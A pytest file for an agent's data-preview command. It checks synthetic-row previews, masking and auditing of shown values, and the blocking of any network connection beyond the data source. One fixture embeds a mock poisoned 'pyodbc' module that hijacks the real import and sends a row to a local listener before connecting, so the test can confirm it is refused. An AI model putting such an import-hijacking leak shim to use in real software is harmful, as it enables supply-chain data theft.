"""Preview: a draft on made-up rows only, and nothing connected but the source."""

from __future__ import annotations

import json
import re
import shutil
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import msgspec
import pytest
import typer
from typer.testing import CliRunner

from agent.cli.preview import register
from agent.core.jobs import DatasetJob, Frame, Job, PageFrame
from agent.errors import PolicyError, SourceError
from agent.service.supervisor import ReaderChild
from agent.tasks.preview import preview
from tests.story.world import SHIPPED, World, world

SEEN: list[tuple[str, object]] = []
WATCHING = False


def _watch(event: str, args: tuple[object, ...]) -> None:
    if WATCHING and event in (
        "socket.connect",
        "socket.sendto",
        "socket.bind",
        "socket.getaddrinfo",
        "sqlite3.connect",
    ):
        SEEN.append((event, args[-1]))


sys.addaudithook(_watch)


@contextmanager
def guarded() -> Iterator[list[tuple[str, object]]]:
    """What this process connects to, as the interpreter itself reports it; an audit hook cannot be taken away."""
    global WATCHING  # noqa: PLW0603
    SEEN.clear()
    WATCHING = True
    try:
        yield SEEN
    finally:
        WATCHING = False


@pytest.fixture
def app() -> typer.Typer:
    made = typer.Typer()
    register(made)
    made.command("other")(lambda: None)
    return made


@pytest.fixture
def draft(tmp_path: Path) -> Path:
    return Path(shutil.copy(SHIPPED, tmp_path / "customer-crm.yaml"))


def test_the_guard_sees_a_connection() -> None:
    import socket

    with guarded() as seen, socket.socket() as one:
        one.connect_ex(("127.0.0.1", 9))
    assert [event for event, _ in seen] == ["socket.connect"]


def test_a_draft_is_shown_on_made_up_rows_and_connects_to_nothing(app: typer.Typer, draft: Path) -> None:
    with guarded() as seen:
        said = CliRunner().invoke(app, ["preview", "--config", str(draft.parent / "none"), "--draft", str(draft)])
    assert said.exit_code == 0, said.exception
    assert seen == []
    assert said.stdout.startswith("SYNTHETIC")
    for dataset in ("customers", "vehicles", "vehicle_sales", "service_visits"):
        assert any(dataset in line and "SYNTHETIC" in line for line in said.stdout.splitlines())
    assert max(map(len, said.stdout.splitlines())) <= 80
    assert "@mail.example" in said.stdout
    assert not [path for path in draft.parent.iterdir() if path != draft], "nothing was written"


def test_made_up_people_refuse_too(app: typer.Typer, draft: Path) -> None:
    said = CliRunner().invoke(app, ["preview", "--config", "none", "--draft", str(draft), "--json"])
    found = json.loads(said.stdout)
    assert found["synthetic"] is True
    assert all(one["synthetic"] and 0 < one["records"] < one["rows"] for one in found["datasets"])
    assert all(field["filled"] == 100 for one in found["datasets"] for field in one["fields"])


def test_a_draft_that_asks_for_what_is_nonpublic_is_not_shown_at_all(app: typer.Typer, draft: Path) -> None:
    text = draft.read_text().replace("column: LANGUAGE,   category: language", "column: CREDIT_SCORE, category: status")
    draft.write_text(text)
    said = CliRunner().invoke(app, ["preview", "--config", "none", "--draft", str(draft)])
    assert isinstance(said.exception, PolicyError)
    assert "WOULD SEND" not in said.stdout


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgresql)])
def store(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    engine = None if request.param == "sqlite" else request.getfixturevalue("postgresql_server").fresh()
    with world(tmp_path_factory.mktemp("preview"), engine=engine, customers=20) as made:
        made.approve()
        made.enroll()
        made.extract()
        yield made


def test_an_approved_policy_is_previewed_from_the_source_alone(store: World) -> None:
    before = store.waiting()
    with guarded() as seen, ReaderChild() as reader:
        found = list(preview(store.desk, reader, show_values=False))
    assert {one.dataset for one in found} == {"customers", "vehicles", "vehicle_sales", "service_visits"}
    assert seen == [], "the reader child has the only connection there is"
    assert store.waiting() == before


class Followed(ReaderChild):
    """With pages of two rows; counts the rows of each answer, and who gave it."""

    def __init__(self) -> None:
        super().__init__()
        self.pages: list[int] = []
        self.processes: set[int] = set()

    def read(self, job: Job) -> Iterator[Frame]:
        assert isinstance(job, DatasetJob)
        for frame in super().read(msgspec.structs.replace(job, page_rows=2)):
            self.pages += [frame.page.rows] if isinstance(frame, PageFrame) else []
            self.processes.add(self._started().pid)
            yield frame


def test_one_page_of_each_dataset_is_asked_for_and_one_reader_answers_them_all(store: World) -> None:
    with Followed() as reader:
        found = list(preview(store.desk, reader, show_values=False))
    assert reader.pages == [2] * 8 == [one.rows for one in found], "four datasets of two stores, each longer than that"
    assert len(reader.processes) == 1


def test_the_policies_in_force_can_be_shown_on_made_up_rows(app: typer.Typer, store: World) -> None:
    with guarded() as seen:
        said = CliRunner().invoke(app, ["preview", "--config", str(store.folder / "agent.yaml"), "--synthetic"])
    assert said.exit_code == 0, said.exception
    assert [event for event, _ in seen if event != "sqlite3.connect"] == []
    assert said.stdout.startswith("SYNTHETIC")


# A library beside the agent that goes elsewhere before it connects: what a poisoned package would do.
POISONED = """
import importlib, socket, sys
sys.path[:] = [path for path in sys.path if path != {folder!r}]
del sys.modules["pyodbc"]
real = importlib.import_module("pyodbc")
connect = real.connect
def elsewhere(*args, **named):
    if {port}:
        socket.create_connection(("127.0.0.1", {port}), 5).sendall(b"a row")
    return connect(*args, **named)
real.connect = elsewhere
sys.modules["pyodbc"] = real
"""


@pytest.mark.parametrize("phones", [False, True])
def test_the_reader_child_reaches_the_source_and_nobody_else(
    store: World, phones: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import socket

    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.2)
        folder = tmp_path / "beside"
        folder.mkdir()
        port = listener.getsockname()[1] if phones else 0
        (folder / "pyodbc.py").write_text(POISONED.format(folder=str(folder), port=port))
        monkeypatch.setenv("PYTHONPATH", str(folder))
        with ReaderChild() as reader:
            if phones:
                with pytest.raises(SourceError) as refused:
                    list(preview(store.desk, reader, show_values=False))
                assert refused.value.code == "FG-S26"
            else:
                assert list(preview(store.desk, reader, show_values=False))
        with pytest.raises(TimeoutError):
            listener.accept()


VIN = r"\b(?=\w*\d)[A-HJ-NPR-Z0-9]{17}\b"


@pytest.mark.parametrize(("typed", "shown"), [("show values", True), ("yes", False)])
def test_values_are_shown_to_whoever_types_it_and_that_is_audited(
    app: typer.Typer, store: World, typed: str, shown: bool
) -> None:
    args = ["preview", "--config", str(store.folder / "agent.yaml"), "--show-values"]
    before = len(store.audit())
    said = CliRunner().invoke(app, args, input=f"{typed}\n")
    asked = [entry["facts"]["shown"] for entry in store.audit()[before:] if entry["event"] == "preview"]
    assert said.exit_code == (0 if shown else 1), said.exception
    assert bool(re.search(VIN, said.stdout)) is shown
    assert asked == (["values"] * len(asked) if shown else [])
    assert bool(asked) is shown


def test_without_being_asked_for_values_are_masked(app: typer.Typer, store: World) -> None:
    before = len(store.audit())
    said = CliRunner().invoke(app, ["preview", "--config", str(store.folder / "agent.yaml")])
    assert said.exit_code == 0, said.exception
    assert not re.search(VIN, said.stdout)
    assert "*" * 16 in said.stdout
    assert {entry["facts"]["shown"] for entry in store.audit()[before:] if entry["event"] == "preview"} == {"masked"}
